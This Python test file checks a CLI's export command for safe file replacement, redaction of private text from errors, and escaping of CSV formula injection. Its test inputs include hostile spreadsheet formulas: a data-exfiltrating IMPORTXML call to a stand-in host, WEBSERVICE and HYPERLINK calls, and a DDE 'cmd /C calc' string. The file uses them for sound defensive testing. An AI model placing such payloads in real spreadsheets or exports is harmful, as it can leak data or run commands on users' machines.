"""What ``council export`` writes is safe to open and never costs the user a file.

A careless user points ``-o`` at last week's export and mistypes an option; an attacker names a
model (or writes an answer) that a spreadsheet would run as a formula; a provider echoes the
request in its error, so a redacted export must cut the question out of error text too.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from contextlib import closing

import pytest
from conftest import invoke_cli

from council import Council
from council.untrusted.csv_cells import csv_cell

pd = pytest.importorskip("pandas")

QUESTION = "Which orbital mechanics principle explains why geostationary satellites stay above one spot?"
FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1+2"]


async def run(question: str, members: list[str], *, store_transcripts: bool = True, seed: int = 0, models=None):
    config = {"models": models or {}, "councils": {"default": {"members": members, "chairman": members[0]}},
              "privacy": {"store_transcripts": store_transcripts}}  # fmt: skip
    council = Council.from_config(config)
    try:
        return await council.run(question, seed=seed)
    finally:
        await council.aclose()


def copied_runs(text: str, private: str, run: int = 24) -> list[str]:
    return [private[i : i + run] for i in range(len(private) - run + 1) if private[i : i + run] in text]


# -- a failed export loses nothing -------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("export", "--since", "not-a-date"),
        ("export", "--format", "csv", "--since", "yesterday-ish"),
        ("export", "--bias-records", "--since", "not-a-date"),
        ("bias-report", "--records", "/nonexistent/records.jsonl", "--json"),
        ("leaderboard", "--since", "not-a-date", "--json"),
    ],
)
async def test_a_failed_command_leaves_the_existing_output_file_as_it_was(tmp_path, args):
    await run("Why is the sky blue?", ["fake/a", "fake/b"])
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "last-week.jsonl"
    out.write_text("precious rows\n", encoding="utf-8")
    result = invoke_cli(*args, "-o", str(out))
    assert result.exit_code == 2, result.stderr
    assert len(result.error_lines) == 1 and "Traceback" not in result.stderr
    assert out.read_text(encoding="utf-8") == "precious rows\n"
    assert sorted(p.name for p in out.parent.iterdir()) == ["last-week.jsonl"]  # no temporary file left


async def test_a_successful_export_replaces_the_file_and_keeps_its_mode(tmp_path):
    result = await run("Why is the sky blue?", ["fake/a", "fake/b"])
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "s.jsonl"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o640)
    assert invoke_cli("export", "-o", str(out)).exit_code == 0
    [doc] = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert doc["session_id"] == result.session_id
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    assert sorted(p.name for p in out.parent.iterdir()) == ["s.jsonl"]


async def test_a_new_export_file_gets_the_usual_mode(tmp_path):
    await run("Why is the sky blue?", ["fake/a", "fake/b"])
    out = tmp_path / "new.csv"
    old = os.umask(0o022)
    try:
        assert invoke_cli("export", "--format", "csv", "-o", str(out)).exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


def test_export_into_a_missing_directory_is_one_line(tmp_path):
    result = invoke_cli("export", "-o", str(tmp_path / "no" / "such" / "dir.jsonl"))
    assert result.exit_code == 2 and len(result.error_lines) == 1
    assert "Traceback" not in result.stderr and "dir.jsonl" in result.stderr


def test_export_to_a_character_device_writes_in_place():
    # /dev/null is not replaced by a rename (that would need /dev to be writable, and would be wrong).
    result = invoke_cli("export", "-o", os.devnull)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


# -- CSV formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_a_text_cell_that_a_spreadsheet_would_run_is_escaped(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "", "'quoted", "3 - 1"])
def test_ordinary_text_is_left_alone(value):
    assert csv_cell(value) == value


def test_numbers_stay_numbers():
    assert csv_cell(-3) == -3 and csv_cell(-0.5) == -0.5 and csv_cell(None) == "" and csv_cell(True) == "true"


HOSTILE_ALIASES = {"=HYPERLINK(1)": {"model": "fake/a"}, "@cmd": {"model": "fake/b"}, "+x": {"model": "fake/c"},
                   "-2": {"model": "fake/d"}}  # fmt: skip


async def test_hostile_names_and_text_are_escaped_in_every_csv_shape_and_numbers_load_as_numbers():
    result = await run('=IMPORTXML(CONCAT("http://x/?",A1))', list(HOSTILE_ALIASES), models=HOSTILE_ALIASES)
    for shape in ("sessions", "scores", "answers"):
        text = invoke_cli("export", "--format", "csv", "--shape", shape).stdout
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell or cell[0] not in "=+-@\t\r", (shape, cell)
    frame = pd.read_csv(io.StringIO(invoke_cli("export", "--format", "csv", "--shape", "scores").stdout))
    assert str(frame["score"].dtype) == "int64" and str(frame["position"].dtype) == "int64"
    assert set(frame["member"]) == {"'" + alias for alias in HOSTILE_ALIASES}
    sessions = pd.read_csv(io.StringIO(invoke_cli("export", "--format", "csv").stdout))
    assert sessions["question"][0] == "'" + result.question
    assert str(sessions["seed"].dtype) == "int64"


async def test_numbers_below_zero_stay_numbers_for_pandas():
    config = {"councils": {"default": {"members": ["fake/a", "fake/b", "fake/c"], "scale": [-3, 3]}}}
    council = Council.from_config(config)
    try:
        await council.run("Why is the sky blue?")
    finally:
        await council.aclose()
    scores = pd.read_csv(io.StringIO(invoke_cli("export", "--format", "csv", "--shape", "scores").stdout))
    assert list(scores["scale_min"].unique()) == [-3] and str(scores["scale_min"].dtype) == "int64"
    assert scores["score"].min() >= -3 and str(scores["score"].dtype) == "int64"


async def test_bias_record_csv_is_escaped(council_home):
    await run("Why is the sky blue?", ["fake/a", "fake/b", "fake/c"])
    hostile = '=HYPERLINK("http://x")'
    with closing(sqlite3.connect(council_home / "council.db")) as db, db:
        db.execute("update bias_records set reviewer_id = ?", [hostile])
    text = invoke_cli("export", "--bias-records", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {r["reviewer_id"] for r in rows} == {"'" + hostile}
    for row in rows:
        assert all(not cell or cell[0] not in "=+-@" for cell in row.values())
    frame = pd.read_csv(io.StringIO(text))
    assert frame["score_value"].dtype.kind in "if"  # numbers, not text


# -- export --redact cuts private text out of every text field ----------------------------------


async def test_redacted_exports_cut_the_question_and_answers_out_of_echoed_errors():
    # Transcripts on (the default): the echoing member's error quotes the whole request.
    result = await run(QUESTION, ["fake/a", "fake/b", "fake/c+echo"])
    failure = next(f for f in result.failures if f.member == "fake/c+echo")
    assert copied_runs(failure.error, QUESTION)  # the stored error does quote the question
    texts = [QUESTION, *(a.text for a in result.answers if a.text)]
    texts += [t for r in result.reviews for t in r.reasoning.values()]
    for shape in ("sessions", "scores", "answers"):
        for fmt in ("jsonl", "csv"):
            out = invoke_cli("export", "--shape", shape, "--format", fmt, "--redact")
            assert out.exit_code == 0, out.stderr
            for text in texts:
                assert copied_runs(out.stdout, text) == [], (shape, fmt)
                assert copied_runs(out.stdout, json.dumps(text)[1:-1]) == [], (shape, fmt)
    redacted = json.loads(invoke_cli("export", "--redact").stdout)
    [echoed, *_] = [f["error"] for f in redacted["failures"] if f["member"] == "fake/c+echo"]
    assert "could not process this request" in echoed and "[redacted]" in echoed  # the reason stays


async def test_a_redacted_export_of_a_failed_session_cuts_the_question_from_its_error():
    with pytest.raises(Exception):  # noqa: B017 - the quorum error
        await run(QUESTION, ["fake/a+echo", "fake/b+echo"])
    for fmt in ("jsonl", "csv"):
        out = invoke_cli("export", "--format", fmt, "--redact").stdout
        assert "quorum" in out or "failed" in out
        assert copied_runs(out, QUESTION) == []


async def test_an_export_never_replaces_the_database(council_home):
    result = await run("Why is the sky blue?", ["fake/a", "fake/b"])
    database = council_home / "council.db"
    for args in (("export",), ("export", "--format", "csv"), ("leaderboard", "--json")):
        refused = invoke_cli(*args, "-o", str(database))
        assert refused.exit_code == 2 and len(refused.error_lines) == 1, refused.stderr
        assert "database" in refused.stderr
    [doc] = [json.loads(line) for line in invoke_cli("export").stdout.splitlines()]
    assert doc["session_id"] == result.session_id


async def test_a_reply_or_provider_error_that_starts_a_formula_is_escaped(council_home):
    # What a hostile provider returns lands in the answers' text and error cells.
    await run("Why is the sky blue?", ["fake/a", "fake/b", "fake/c"])
    with closing(sqlite3.connect(council_home / "council.db")) as db, db:
        db.execute("""update sessions set result = json_set(result, '$.answers[0].text', '=WEBSERVICE("http://x")',
                      '$.answers[1].error', '@SUM(1+1)*cmd|'' /C calc''!A0')""")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(invoke_cli("export", "--format", "csv", "--shape", "answers").stdout)))
    assert rows[0]["text"] == '\'=WEBSERVICE("http://x")'
    assert rows[1]["error"].startswith("'@SUM")


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
async def test_a_full_disk_is_one_line():
    await run("Why is the sky blue?", ["fake/a", "fake/b"])
    result = invoke_cli("export", "-o", "/dev/full")
    assert result.exit_code == 2 and result.error_lines == ["error: cannot write /dev/full: No space left on device"]
